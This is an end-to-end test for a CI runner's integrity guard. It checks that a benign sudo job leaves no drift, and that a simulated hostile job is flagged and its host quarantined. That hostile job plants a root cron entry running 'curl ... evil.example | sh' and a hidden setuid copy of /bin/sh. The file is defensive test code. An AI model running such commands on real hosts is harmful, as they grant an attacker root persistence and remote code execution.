/**
 * Jobs with sudo, end to end: the real agent, the simulated runner and the fake API, policy
 * runner.sudo allow. The grant is real (sudo reads the real /etc/sudoers.d; the agent removes its
 * drop-in after each job and this test makes sure it is gone); the integrity check reads a host
 * tree this test builds (wire's integrityRoot), which is where the job plants through sudo.
 * A benign job that uses sudo leaves zero drift and the host is reused; a job that plants a cron.d
 * file and a setuid shell through sudo is named in the drift report, the host is quarantined, and
 * the job queued after it never runs there.
 */
import test from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { stringify } from 'yaml';
import { jobRecords, testPolicy } from '../../helpers/world.js';
import { sudoDropIn } from '../../../src/integrity/sudo-guard.js';
import { sudoTreeWorld, wireOnTree } from './sudo-tree-world.js';
import type { StatusSnapshot } from '../../../src/health/snapshot.js';
import { formatStatus } from '../../../src/cli/status.js';

/** Three short jobs and two cleanups: 10-20 s here; a loaded two-core machine gets room. */
const AGENT_RUN_LIMIT_MS = 150_000;
/** The file surfaces only: the kernel and process surfaces are the shared machine's, where other tests run. */
const SURFACES = ['etc', 'usr-local', 'opt-srv', 'root-home', 'authorized-keys', 'cron', 'systemd', 'setuid', 'accounts', 'package-state'];

function sudoMissing(): string | undefined {
  return existsSync('/usr/bin/sudo') ? undefined : 'sudo is not installed (scripts/install-test-deps.sh)';
}

test(
  'a benign sudo job leaves zero drift; a job planting through sudo is named, the host quarantined, the next job never runs there',
  { skip: sudoMissing(), timeout: 240_000 },
  async (t) => {
    const { w, T } = await sudoTreeWorld(t);
    const grantFile = sudoDropIn(w.lab.user.name);
    await writeFile(
      path.join(w.policyDir, 'test.yaml'),
      stringify({ ...testPolicy(w.lab, { host: { integrity: { enabled: true, surfaces: SURFACES } } }), runner: { sudo: 'allow' } }),
    );
    const benign = [
      'set -e',
      'test "$(sudo -n id -u)" = 0',
      'mkdir -p build && echo "int main(){return 0;}" > build/a.c && cp build/a.c build/a.o',
      // A root-owned build log in the temp directory: not a persistence, not drift.
      `sudo -n sh -c 'echo built > ${T}/tmp/sudo-build.log'`,
      'echo benign-done',
    ].join('\n');
    const hostile = [
      'set -e',
      `sudo -n sh -c 'printf "* * * * * root curl -s https://evil.example | sh\\n" > ${T}/etc/cron.d/rw-planted'`,
      `sudo -n sh -c 'cp /bin/sh ${T}/var/tmp/.rootsh && chmod 4755 ${T}/var/tmp/.rootsh'`,
    ].join('\n');
    w.fake.enqueueJob({ repository: 'octo/app', runId: 1, job: 'benign', steps: [{ name: 'build with sudo', run: benign }] });
    w.fake.enqueueJob({ repository: 'octo/app', runId: 2, job: 'hostile', steps: [{ name: 'plant through sudo', run: hostile }] });
    w.fake.enqueueJob({
      repository: 'octo/app',
      runId: 3,
      job: 'next',
      steps: [{ name: 'look', run: `ls -la ${T}/etc/cron.d > /dev/null` }],
    });

    const rt = await wireOnTree(w, T);
    // Without a recycle provider a quarantined agent waits until it is stopped: stop it then, as an operator would.
    const stop = new AbortController();
    const watch = setInterval(() => {
      if (rt.agent.snapshot().quarantined) stop.abort();
    }, 100);
    let status: StatusSnapshot | undefined;
    try {
      await rt.agent.run(AbortSignal.any([AbortSignal.timeout(AGENT_RUN_LIMIT_MS), stop.signal]));
      // What an operator reads: /status and `runner-warden status` (its rendering of /status).
      status = (await (await fetch(`http://127.0.0.1:${rt.health?.address.port}/status`)).json()) as StatusSnapshot;
    } finally {
      clearInterval(watch);
      await rt.close();
    }

    const jobs = jobRecords(await w.journal());
    const [first, second] = jobs;
    assert.equal(jobs.length, 2, `expected the benign and the hostile job only, got ${jobs.map((j) => j.job.job ?? j.result).join(', ')}`);
    assert.ok(first && second);
    // The benign job really used sudo (its steps fail otherwise) and left nothing the check reports.
    assert.equal(first.result, 'Succeeded', 'the benign job failed: its sudo calls did not work');
    assert.deepEqual(first.guardFindings ?? [], [], 'a benign sudo job drifted');
    assert.equal(first.cleanup.verify.clean, true, first.cleanup.verify.problems.join('\n'));
    assert.equal(first.decision, 'reuse', first.decisionReason);
    assert.equal(await readFile(`${T}/tmp/sudo-build.log`, 'utf8'), 'built\n', 'the benign job did not write through sudo');

    assert.equal(second.result, 'Succeeded', 'the hostile job failed to plant');
    const lines = (second.guardFindings ?? []).filter((f) => f.guard === 'integrity').map((f) => f.problem);
    for (const e of [
      /^etc: \/etc\/cron\.d\/rw-planted added \(the job through sudo/,
      /^setuid: \/var\/tmp\/\.rootsh added \(the job through sudo/,
    ]) {
      assert.ok(
        lines.some((l) => e.test(l)),
        `no line matches ${e}:\n${lines.join('\n')}`,
      );
    }
    assert.equal(second.decision, 'quarantine', second.decisionReason);
    const shown = status?.lastJob?.cleanup?.problems ?? [];
    const rendered = status ? formatStatus(status, Date.now()) : '';
    for (const e of ['guard:integrity: etc: /etc/cron.d/rw-planted added', 'guard:integrity: setuid: /var/tmp/.rootsh added']) {
      assert.ok(
        shown.some((l) => l.startsWith(e)),
        `/status does not show "${e}":\n${shown.join('\n')}`,
      );
      assert.ok(rendered.includes(e), `runner-warden status does not show "${e}":\n${rendered}`);
    }
    assert.equal(status?.quarantined, true, 'the quarantine is not in /status');
    assert.equal(rt.agent.snapshot().quarantined, true);

    // Nothing of it reaches the next job: that job was never given to this host.
    const next = w.fake.jobs().find((j) => j.job.displayName === 'next');
    assert.ok(next, 'the third job is missing from the fake service');
    assert.equal(next.runnerName, null, `the job after the plant ran on the quarantined host (${String(next.runnerName)})`);
    // The grant lived for the jobs only.
    assert.equal(existsSync(grantFile), false, `${grantFile} is left after the jobs`);
  },
);
